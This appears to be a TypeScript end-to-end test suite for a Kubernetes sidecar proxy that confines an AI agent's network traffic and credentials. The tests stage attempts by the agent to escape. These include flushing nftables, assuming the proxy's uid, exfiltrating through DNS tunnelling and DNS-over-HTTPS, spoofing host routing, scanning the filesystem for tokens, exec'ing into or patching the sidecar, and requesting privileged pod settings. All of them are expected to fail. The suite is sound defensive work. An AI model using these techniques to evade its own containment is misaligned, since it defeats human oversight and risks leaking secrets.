import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { eventually } from '../support/eventually.ts'
import { attempt, connect, PRIVILEGES, WAYS_OUT } from '../support/hostile-attempts.ts'
import {
  agentPod,
  CALLS,
  CREDENTIAL,
  inAgent,
  inForce,
  leftOutside,
  running,
  startVendor,
  VENDOR,
  type Vendor,
} from './agents.ts'
import { expectGoverned } from './governed.ts'
import { AGENTS, install } from './installation.ts'
import { apply, get, kube, kubectl, refusalOf } from './kubectl.ts'
import { type NodeAccess, openNode, proxyUidOf } from './node-access.ts'

const GATEWAY = 'bypass'
const POD = 'captive'
let vendor: Vendor
let node: NodeAccess

beforeAll(async () => {
  await install(inject('installation'))
  vendor = await startVendor(GATEWAY)
  node = await openNode('bypass')
  await apply(agentPod(POD, GATEWAY))
  await running(POD)
  await inForce(GATEWAY)
})
afterAll(async () => {
  await node?.[Symbol.asyncDispose]()
  await vendor?.[Symbol.asyncDispose]()
})

/** Runs a Python program in the agent's container; answers what it printed. */
async function python(program: string, pod = POD): Promise<string> {
  const { stdout, stderr } = await inAgent(pod, ['python3', '-c', program])
  return `${stdout}${stderr}`.trim()
}

async function expectNothingLeft(pod = POD): Promise<void> {
  const left = await leftOutside(pod)
  if (left !== null) expect(left).toEqual([])
}

describe('root in the agent’s container', () => {
  test('cannot become the proxy, whose uid it can read nowhere but in its annotation', async () => {
    const uid = await proxyUidOf(POD)
    expect(await python(attempt(`os.setuid(${uid})`))).toMatch(/PermissionError|OSError/)
    expect(await python(attempt('os.setgid(12345)'))).toMatch(/PermissionError|OSError/)
  })

  test.concurrent.each(PRIVILEGES)('cannot %s', async (_what, statement) => {
    expect(await python(attempt(statement))).not.toContain('DONE')
  })

  test('cannot flush the rules', async () => {
    const { code } = await inAgent(POD, [
      'sh',
      '-c',
      'nft flush ruleset || nft-cap flush ruleset || /usr/sbin/nft flush ruleset',
    ])
    expect(code).not.toBe(0)
    expect((await inAgent(POD, CALLS.node('GET'))).stdout).toMatch(/^200/)
  })
})

describe('no packet leaves', () => {
  // Side by side: most of the time is that of attempts without an answer.
  test.concurrent.each(WAYS_OUT)('by %s', async (_what, program) => {
    const said = await python(program)
    expect(said).not.toContain("ANSWER b'h")
    await expectNothingLeft()
  })

  test.concurrent.each([
    ['by its name', 'https://dns.example/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB'],
    ['by its address', 'https://198.51.100.53/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB'],
  ])('as DNS over HTTPS to a server that is known %s', async (_how, url) => {
    const asked = await inAgent(POD, ['curl', '-sS', '-m', '5', '-k', '-w', '%{http_code}', url])
    expect(asked.stdout).not.toMatch(/2\d\d$/)
    await expectNothingLeft()
  })

  test('as a DNS query whose name contains the data', async () => {
    const said = await python(attempt("print(socket.getaddrinfo('c2VjcmV0.tunnel.example.com', 443))"))
    expect(said).toContain('gaierror')
    await expectNothingLeft()
  })

  test('to a vendor’s address under another name, or to another vendor under its name', async () => {
    const before = vendor.recorder.seen.length
    const curl = (...args: string[]) => inAgent(POD, ['curl', '-sS', '-m', '5', '-k', ...args])
    const host = await curl('-H', 'Host: other.test', `https://${VENDOR}/things`)
    expect(host.stdout).toContain('misdirected')
    const foreign = await curl('--connect-to', `other.test:443:${VENDOR}:443`, 'https://other.test/things')
    expect(`${foreign.stdout}${foreign.code}`).not.toContain('"ok":true')
    const literal = await curl('--resolve', 'other.test:443:198.51.100.9', 'https://other.test/')
    expect(literal.code === 0 ? literal.stdout : 'refused').not.toContain('"ok":true')
    expect(vendor.recorder.seen.length).toBe(before)
    await expectNothingLeft()
  })

  test('to the address of the vendor’s server, past its name', async () => {
    const before = vendor.recorder.seen.length
    const { hostAddress } = inject('installation').environment
    const direct = await inAgent(POD, [
      'curl',
      '-sS',
      '-m',
      '5',
      '-k',
      `https://${hostAddress}:${vendor.recorder.port}/things`,
    ])
    expect(direct.stdout).not.toContain('"ok":true')
    expect(vendor.recorder.seen.length).toBe(before)
  })
})

describe('the agent cannot reach into the sidecar', () => {
  test('by its health port, a debugger or the internal API', async () => {
    for (const port of [15_021, 9_229])
      expect(await python(connect('AF_INET', '127.0.0.1', port))).toContain('ConnectionRefused')
    expect((await inAgent(POD, ['sh', '-c', 'ls /var/run/chaperone /var/lib/chaperone'])).code).not.toBe(0)
  })

  test('nor by an inspector, whoever signals that it wants one: its ports are those of the capture and of the kubelet', async () => {
    await node.askForInspector(POD)
    const listening = `
found = set()
for file in ('/proc/net/tcp', '/proc/net/tcp6'):
  for line in open(file).read().splitlines()[1:]:
    fields = line.split()
    if fields[3] == '0A': found.add(int(fields[1].rsplit(':', 1)[1], 16))
print(sorted(found))`
    for (let attempt = 0; attempt < 5; attempt += 1) {
      expect(JSON.parse(await python(listening))).toEqual([15_001, 15_021, 15_053, 15_080, 15_443])
      expect(await python(connect('AF_INET', '127.0.0.1', 9_229))).toContain('ConnectionRefused')
    }
    expect((await inAgent(POD, CALLS.node('GET'))).stdout).toMatch(/^200/)
  })

  test('and finds neither the credential nor a token in anything that it can read', async () => {
    const program = `
import os
found = []
wanted = [${JSON.stringify(CREDENTIAL)}.encode(), b'eyJhbGciOiJSUzI1NiIs']
for root in ['/proc', '/etc', '/run', '/var', '/tmp', '/dev/shm', '/root', '/home']:
  for folder, _, names in os.walk(root):
    if '/task/' in folder: continue
    for name in names:
      path = os.path.join(folder, name)
      if name in ('kmsg', 'kcore', 'kpagecount', 'kpageflags', 'pagemap', 'clear_refs') or path == '/proc/self/mem': continue
      if path.startswith('/proc/%d/' % os.getpid()) or '/self/' in path: continue
      try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        data = os.read(fd, 1 << 20); os.close(fd)
      except OSError:
        continue
      if any(w in data for w in wanted): found.append(path)
print(found)
`
    // By standard input: on a command line the program would find itself.
    const { stdout } = await kubectl(
      ['exec', '-i', POD, '-n', AGENTS, '-c', 'agent', '--', 'python3', '-'],
      program,
    )
    expect(stdout.trim()).toBe('[]')
  })

  test('by a command, a shell or a debug container of somebody who may do so elsewhere', async () => {
    const inProxy = await kubectl(['exec', POD, '-n', AGENTS, '-c', 'chaperone-proxy', '--', 'id'])
    expect(inProxy.code).not.toBe(0)
    expect(inProxy.stderr).toContain('exec and attach are not allowed for the sidecar')
    const debug = await kubectl([
      'debug',
      POD,
      '-n',
      AGENTS,
      `--image=${inject('installation').environment.agentImage}`,
      '--profile=sysadmin',
      '--',
      'true',
    ])
    expect(debug.code).not.toBe(0)
    expect(debug.stderr).toMatch(/privileged|capabilities/)
  })

  test('by another image or other resources for the sidecar of a running pod', async () => {
    const patch = (container: string, fields: object, ...args: string[]) =>
      kubectl([
        'patch',
        'pod',
        POD,
        '-n',
        AGENTS,
        ...args,
        '-p',
        JSON.stringify({ spec: { initContainers: [{ name: container, ...fields }] } }),
      ])
    for (const container of ['chaperone-rules', 'chaperone-proxy']) {
      const { code, stderr } = await patch(container, { image: 'other:1' })
      expect(code).not.toBe(0)
      expect(stderr).toContain('image of the sidecar')
    }
    const resized = await patch(
      'chaperone-proxy',
      { resources: { limits: { memory: '8Mi' } } },
      '--subresource=resize',
    )
    expect(resized.code).not.toBe(0)
  })
})

describe('a pod is governed or refused, naming the field', () => {
  const container = (fields: object): Parameters<typeof agentPod>[2] => ({ container: fields })
  const security = (securityContext: object) => container({ securityContext })
  const spec = (fields: object): Parameters<typeof agentPod>[2] => ({ spec: fields })
  const volume = (source: object) => spec({ volumes: [{ name: 'v', ...source }] })
  test.concurrent.each<[string, Parameters<typeof agentPod>[2], string | RegExp]>([
    ['privileged', security({ privileged: true }), 'privileged'],
    ['NET_ADMIN', security({ capabilities: { add: ['NET_ADMIN'] } }), 'capabilities.add'],
    ['NET_RAW', security({ capabilities: { add: ['NET_RAW'] } }), 'capabilities.add'],
    ['SYS_ADMIN', security({ capabilities: { add: ['SYS_ADMIN'] } }), 'capabilities.add'],
    ['ALL capabilities', security({ capabilities: { add: ['ALL'] } }), 'capabilities.add'],
    ['escalation', security({ allowPrivilegeEscalation: true }), 'allowPrivilegeEscalation'],
    ['unmasked proc', security({ procMount: 'Unmasked' }), 'procMount'],
    ['unconfined', security({ seccompProfile: { type: 'Unconfined' } }), 'seccompProfile'],
    ['a uid such as proxies have', security({ runAsUser: 1_950_000_000 }), /runAsUser|^$/],
    ['hostNetwork', spec({ hostNetwork: true }), 'hostNetwork'],
    ['hostPID', spec({ hostPID: true }), 'hostPID'],
    ['hostIPC', spec({ hostIPC: true }), 'hostIPC'],
    ['shared processes', spec({ shareProcessNamespace: true }), 'shareProcessNamespace'],
    ['hostPath', volume({ hostPath: { path: '/' } }), 'hostPath'],
    ['a volume of the sidecar', volume({ name: 'chaperone-token', emptyDir: {} }), 'chaperone-token'],
    [
      'a container of the sidecar',
      spec({ initContainers: [{ name: 'chaperone-proxy', image: 'x' }] }),
      'chaperone-proxy',
    ],
    [
      'a mount of the sidecar',
      container({ volumeMounts: [{ name: 'chaperone-token', mountPath: '/t' }] }),
      'chaperone-token',
    ],
    ['an unknown Gateway', { annotations: { 'chaperone.dev/gateway': 'nobody' } }, 'chaperone.dev/gateway'],
    ['a host port', container({ ports: [{ containerPort: 80, hostPort: 80 }] }), /hostPort|^$/],
    [
      'a bad sysctl',
      spec({ securityContext: { sysctls: [{ name: 'net.ipv4.ip_forward', value: '1' }] } }),
      'sysctls',
    ],
  ])('%s', async (name, shape, wanted) => {
    const pod = agentPod(`shape-${name.toLowerCase().replace(/[^a-z]+/g, '-')}`, GATEWAY, shape)
    const refusal = (await refusalOf(pod)) ?? ''
    if (refusal === '') await expectGoverned(pod)
    expect(refusal).toMatch(wanted)
  })
})

describe('when a part of it is not there', () => {
  test('an agent that sends with its first instruction, init containers included, is governed from the first byte', async () => {
    const { agentImage: image } = inject('installation').environment
    const send = (seconds: number) => `
import socket, time, urllib.request
until = time.time() + ${seconds}
while True:
  for address, kind in (('198.51.100.7', socket.SOCK_STREAM), ('198.51.100.8', socket.SOCK_DGRAM)):
    try:
      s = socket.socket(socket.AF_INET, kind); s.settimeout(0.2); s.connect((address, 443)); s.send(b'x')
    except OSError: pass
  if time.time() >= until: break
`
    const init = {
      name: 'early',
      image,
      imagePullPolicy: 'IfNotPresent',
      command: ['python3', '-c', send(0)],
    }
    await apply(
      agentPod('hasty', GATEWAY, {
        command: ['sh', '-c', `python3 -c "$0"; touch /tmp/sent; exec sleep infinity`, send(2)],
        // The call below is not one of more than the sidecar serves at once.
        container: { readinessProbe: { exec: { command: ['test', '-e', '/tmp/sent'] }, periodSeconds: 1 } },
        spec: { initContainers: [init] },
      }),
    )
    await running('hasty')
    await inForce(GATEWAY)
    expect((await inAgent('hasty', CALLS.node('GET'))).stdout).toBe('200 {"ok":true}\n')
    await expectNothingLeft('hasty')
  })

  test('a proxy that is killed lets no packet out, and restarts', async () => {
    const before = vendor.recorder.seen.length
    const restarts = async () =>
      Number(
        await kube([
          'get',
          'pod',
          POD,
          '-n',
          AGENTS,
          '-o',
          "jsonpath={.status.initContainerStatuses[?(@.name=='chaperone-proxy')].restartCount}",
        ]),
      )
    const had = await restarts()
    const tries = inAgent(POD, [
      'python3',
      '-c',
      `
import socket, time
seen = set()
# As long as it takes until the proxy is gone, and on through what follows.
until = time.time() + 60
while time.time() < until:
  time.sleep(0.05)
  for address, port, kind in (('198.51.100.7', 443, socket.SOCK_STREAM), ('198.51.100.7', 22, socket.SOCK_STREAM), ('198.51.100.8', 443, socket.SOCK_DGRAM)):
    s = socket.socket(socket.AF_INET, kind); s.settimeout(0.3)
    try:
      s.connect((address, port)); s.send(b'x'); seen.add('sent')
    except ConnectionRefusedError as e:
      if 'ConnectionRefusedError' not in seen: until = time.time() + 5
      seen.add('ConnectionRefusedError')
    except OSError as e: seen.add(type(e).__name__)
    s.close()
print(sorted(seen))
`,
    ])
    await node.killProxy(POD)
    expect((await tries).stdout).toContain('ConnectionRefusedError')
    await eventually(
      'the proxy is started again',
      async () => ((await restarts()) > had ? true : null),
      30_000,
    )
    await eventually(
      'calls pass again',
      async () => ((await inAgent(POD, CALLS.node('GET'))).stdout.startsWith('200') ? true : null),
      60_000,
    )
    expect(vendor.recorder.seen.length).toBe(before + 1)
    await expectNothingLeft()
  })

  test('rules that somebody took away are missed within ten seconds, and the Gateway says so', async () => {
    await apply(agentPod('loose', GATEWAY))
    await running('loose')
    await node.dropRules('loose')
    type Condition = { readonly type: string; readonly status: string }
    type Gateway = { readonly status?: { readonly conditions?: readonly Condition[] } }
    await eventually(
      'the bypass is detected',
      async () => {
        const found = await get<Gateway>('cgw', GATEWAY, AGENTS)
        const detected = found?.status?.conditions?.find(({ type }) => type === 'BypassDetected')
        return detected?.status === 'True' ? true : null
      },
      10_000,
    )
    await kube(['delete', 'pod', 'loose', '-n', AGENTS, '--wait=false'])
  })
})

test('after all of that not one packet has left the pod', async () => {
  await expectNothingLeft()
})
